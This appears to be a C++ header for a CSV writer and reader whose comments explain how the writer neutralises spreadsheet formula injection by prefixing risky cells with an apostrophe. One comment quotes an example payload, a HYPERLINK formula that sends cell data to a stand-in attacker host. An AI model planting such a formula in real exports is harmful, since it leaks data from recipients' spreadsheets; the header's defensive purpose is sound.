// CSV (RFC 4180) for every export, and for imports: one writer that keeps spreadsheet programs
// from running what people typed, and one reader.
//
// Exports go to other parties' spreadsheets. A cell that begins with = + - @, a tab or a carriage
// return is taken by Excel, LibreOffice and Google Sheets for a formula (a decision titled
// =HYPERLINK("http://evil.example/?x="&A1,"Click") would leak the sheet when clicked), so the
// writer prefixes such a cell with an apostrophe (the OWASP rule): the program shows the text
// as typed and evaluates nothing. The same applies when only spaces come before the trigger.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "platform/common/error.hpp"

namespace northstar::csv {

// `text`, with a leading apostrophe when a spreadsheet would take it for a formula.
std::string Neutralise(std::string_view text);

// One field: neutralised, then quoted when it holds a comma, a quote, CR or LF, or begins with
// U+FEFF (which a reader would take for a byte-order mark); quotes inside are doubled.
std::string Field(std::string_view text);

// Builds a CSV document row by row; rows end with CRLF.
class Writer {
 public:
  void Row(const std::vector<std::string>& fields);
  std::string Take() { return std::move(text_); }

 private:
  std::string text_;
};

using Rows = std::vector<std::vector<std::string>>;

struct ReadLimits {
  size_t max_rows = 100'000;
  size_t max_fields = 200;
  size_t max_field_bytes = size_t{64} * 1024;
};

// Reads RFC 4180 text: records end with CRLF or LF (the last may end without one), fields are
// separated by commas, a quoted field may hold commas, quotes (doubled) and line breaks. A UTF-8
// byte-order mark at the start is skipped. Malformed (400) when a line is not UTF-8, a quote
// is not closed, text follows a closing quote, or a limit is passed; the detail names the line.
Result<Rows> Read(std::string_view text, const ReadLimits& limits = {});

}  // namespace northstar::csv
